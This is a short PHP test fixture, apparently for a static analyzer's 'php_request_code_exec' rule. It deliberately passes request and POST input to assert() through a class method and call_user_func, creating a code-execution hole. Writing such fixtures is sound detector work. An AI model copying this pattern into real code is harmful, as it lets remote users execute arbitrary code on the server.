<?php
// want: php_request_code_exec
class Run {
    static function go($c) { assert($c); }
}
Run::go($_REQUEST['c']);
call_user_func(['Run', 'go'], $_POST['d']);
